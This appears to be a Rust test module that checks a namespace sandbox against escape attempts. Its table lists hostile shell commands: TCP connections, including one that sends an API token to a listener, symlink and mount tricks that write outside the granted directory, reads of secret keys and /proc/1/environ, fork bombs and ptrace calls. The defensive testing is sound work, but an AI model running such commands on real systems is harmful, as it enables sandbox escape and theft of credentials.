//! Sandbox escapes: each row is a command run in the namespace sandbox with
//! one granted directory. The escape *ran* when its effect is visible on
//! the host (a file outside the grant, a connection to a host listener, a
//! process count past the limit, a successful ptrace) and *leaked* when a
//! canary secret of the daemon's home shows in its output.

use std::net::TcpListener;
use std::time::Duration;

use opticlaw_sandbox::{Limits, RunSpec, Sandbox};

use crate::{Attack, Case, Env, Family, Outcome};

/// What the escape tries.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Escape {
    /// Connect to a TCP listener on the host's loopback (`{port}`).
    Network,
    /// Create `{outside}/pwned` (a host-writable sibling of the grant).
    WriteOutside,
    /// Create a file under a system path.
    WriteSystem(&'static str),
    /// Read the daemon's secrets (`{home}`).
    ReadSecret,
    /// Start more processes than the limit of 16.
    ForkBomb,
    /// Trace a process.
    Ptrace,
}

#[derive(Debug, Clone)]
pub struct SandboxAttack {
    pub escape: Escape,
    /// The shell script; `{port}`, `{outside}`, `{home}` and `{grant}` are
    /// filled in before it runs.
    pub script: &'static str,
}

const TABLE: &[(Escape, &str)] = &[
    (
        Escape::Network,
        "exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected",
    ),
    (
        Escape::Network,
        "exec 3<>/dev/tcp/localhost/{port} && echo hi >&3",
    ),
    (
        Escape::Network,
        "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr=>\"127.0.0.1:{port}\") or exit 1; print \"connected\"'",
    ),
    (
        Escape::Network,
        "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2)' && echo connected",
    ),
    (
        Escape::Network,
        "cat {home}/api_token > /dev/tcp/127.0.0.1/{port}",
    ),
    (
        Escape::Network,
        "ip link set lo up 2>/dev/null; exec 3<>/dev/tcp/127.0.0.1/{port}",
    ),
    (Escape::WriteOutside, "echo x > {outside}/pwned"),
    (
        Escape::WriteOutside,
        "cd {grant} && echo x > ../outside/pwned",
    ),
    (Escape::WriteOutside, "echo x > {grant}/../outside/pwned"),
    (
        Escape::WriteOutside,
        "ln -s {outside} {grant}/link && echo x > {grant}/link/pwned",
    ),
    (
        Escape::WriteOutside,
        "ln -s {outside}/pwned {grant}/file-link && echo x > {grant}/file-link",
    ),
    (
        Escape::WriteOutside,
        "mkdir -p {grant}/a && ln -s ../../outside {grant}/a/up && echo x > {grant}/a/up/pwned",
    ),
    (
        Escape::WriteOutside,
        "echo x > {grant}/f && mv {grant}/f {outside}/pwned",
    ),
    (
        Escape::WriteOutside,
        "echo x > {grant}/f && cp {grant}/f {outside}/pwned",
    ),
    (Escape::WriteOutside, "echo x | tee {outside}/pwned"),
    (
        Escape::WriteOutside,
        "perl -e 'open(my $f, \">\", \"{outside}/pwned\") or die; print $f \"x\"'",
    ),
    (
        Escape::WriteOutside,
        "ln {outside}/existing {grant}/hard && echo x >> {grant}/hard; touch {outside}/pwned",
    ),
    (
        Escape::WriteOutside,
        "mount -t tmpfs none {outside} 2>/dev/null; echo x > {outside}/pwned",
    ),
    (
        Escape::WriteOutside,
        "mount -o remount,rw {outside} 2>/dev/null; echo x > {outside}/pwned",
    ),
    (
        Escape::WriteSystem("/etc/opticlaw-pwned"),
        "echo x > /etc/opticlaw-pwned",
    ),
    (
        Escape::WriteSystem("/usr/local/bin/opticlaw-pwned"),
        "echo x > /usr/local/bin/opticlaw-pwned",
    ),
    (
        Escape::WriteSystem("/var/tmp/opticlaw-pwned"),
        "echo x > /var/tmp/opticlaw-pwned",
    ),
    (Escape::ReadSecret, "cat {home}/api_token"),
    (Escape::ReadSecret, "cat {home}/keys/signing.key"),
    (Escape::ReadSecret, "cat {home}/config.toml"),
    (Escape::ReadSecret, "cat {grant}/../daemon-home/api_token"),
    (
        Escape::ReadSecret,
        "ln -s {home}/api_token {grant}/t && cat {grant}/t",
    ),
    (
        Escape::ReadSecret,
        "ln -s {home} {grant}/h && cat {grant}/h/keys/signing.key",
    ),
    (
        Escape::ReadSecret,
        "cp {home}/api_token {grant}/copy; cat {grant}/copy",
    ),
    (Escape::ReadSecret, "tar cf - {home} 2>/dev/null | cat"),
    (
        Escape::ReadSecret,
        "grep -r OPTICLAW-CANARY {home} /proc/1/environ 2>/dev/null",
    ),
    (Escape::ReadSecret, "cat /proc/1/root{home}/api_token"),
    (
        Escape::ForkBomb,
        "perl -e 'my $n=0; for (1..200) { my $p=fork(); last unless defined $p; if ($p==0) { sleep 30; exit 0 } $n++ } print \"forked=$n\\n\"'",
    ),
    (
        Escape::ForkBomb,
        "perl -e 'my $n=0; while ($n < 200) { my $p=fork(); last unless defined $p; if ($p==0) { exec(\"sleep\", \"30\") } $n++ } print \"forked=$n\\n\"'",
    ),
    (
        Escape::Ptrace,
        "perl -e 'my $r = syscall(101, 0, 0, 0, 0); print \"ptrace=$r\\n\"'",
    ),
    (
        Escape::Ptrace,
        "perl -e 'my $r = syscall(101, 16, 1, 0, 0); print \"ptrace=$r\\n\"'",
    ),
];

pub fn cases() -> Vec<Case> {
    TABLE
        .iter()
        .enumerate()
        .map(|(i, (escape, script))| Case {
            id: format!(
                "sandbox-{i:03}-{}",
                format!("{escape:?}")
                    .to_lowercase()
                    .split('(')
                    .next()
                    .unwrap_or("")
            ),
            family: Family::Sandbox,
            attack: Attack::Sandbox(SandboxAttack {
                escape: *escape,
                script,
            }),
        })
        .collect()
}

pub fn run(env: &Env, attack: &SandboxAttack) -> Outcome {
    let sandbox = match &env.sandbox {
        Ok(sandbox) => sandbox,
        // No sandbox here: nothing can be shown safe, so the case fails.
        Err(why) => {
            return Outcome {
                ran: true,
                leaked: false,
                detail: format!("no sandbox: {why}"),
            };
        }
    };
    let grant = env.scratch_dir("grant");
    let outside = env.scratch_dir("outside");
    std::fs::write(outside.join("existing"), "host file\n").expect("writing the host file");
    let listener = TcpListener::bind("127.0.0.1:0").expect("binding a host listener");
    listener
        .set_nonblocking(true)
        .expect("nonblocking listener");
    let port = listener.local_addr().expect("listener address").port();
    let script = attack
        .script
        .replace("{port}", &port.to_string())
        .replace("{outside}", &outside.display().to_string())
        .replace("{grant}", &grant.display().to_string())
        .replace("{home}", &env.daemon_home().display().to_string());
    // As a runner must: the daemon's home is hidden. The host tree is
    // visible read-only, and a daemon not running as root shares its uid
    // with the sandbox, so file permissions alone would not stop a read.
    let spec = RunSpec::new(["/bin/bash", "-c", script.as_str()])
        .writable(&grant)
        .workdir(&grant)
        .hidden(env.daemon_home())
        .limits(Limits {
            max_processes: Some(16),
            wall_clock: Duration::from_secs(5),
            ..Limits::default()
        });
    let (out, stdout, text) = match run_script(sandbox, &spec) {
        Ok(ran) => ran,
        Err(blocked) => return blocked,
    };
    let leaked = env.contains_canary(&text);
    let (ran, what) = match attack.escape {
        Escape::Network => (
            listener.accept().is_ok() || stdout.contains("connected"),
            "no connection reached the host listener",
        ),
        Escape::WriteOutside => (
            outside.join("pwned").exists()
                || std::fs::read_to_string(outside.join("existing"))
                    .map_or(true, |t| t != "host file\n"),
            "nothing outside the grant was created or changed",
        ),
        Escape::WriteSystem(path) => {
            let exists = std::path::Path::new(path).exists();
            if exists {
                let _ = std::fs::remove_file(path);
            }
            (exists, "the system path was not written")
        }
        Escape::ReadSecret => (leaked, "no secret was read"),
        Escape::ForkBomb => {
            let forked: Option<u32> = stdout
                .lines()
                .find_map(|l| l.strip_prefix("forked=")?.trim().parse().ok());
            (forked.is_none_or(|n| n >= 16), "the process limit held")
        }
        Escape::Ptrace => (!stdout.contains("ptrace=-1"), "ptrace was denied"),
    };
    let detail = if ran {
        format!("escaped: {}", text.chars().take(200).collect::<String>())
    } else {
        format!("{what} (exit {:?})", out.status)
    };
    Outcome {
        ran,
        leaked,
        detail,
    }
}

/// Runs an attack's spec: its output, stdout, and stdout and stderr
/// together; a sandbox that refuses to start it has blocked it.
pub(crate) fn run_script(
    sandbox: &opticlaw_sandbox::NamespaceSandbox,
    spec: &RunSpec,
) -> Result<(opticlaw_sandbox::RunOutput, String, String), Outcome> {
    let out = sandbox
        .run(spec)
        .map_err(|error| Outcome::blocked(format!("the sandbox refused to start it: {error}")))?;
    let stdout = out.stdout.text();
    let text = format!("{stdout}{}", out.stderr.text());
    Ok((out, stdout, text))
}
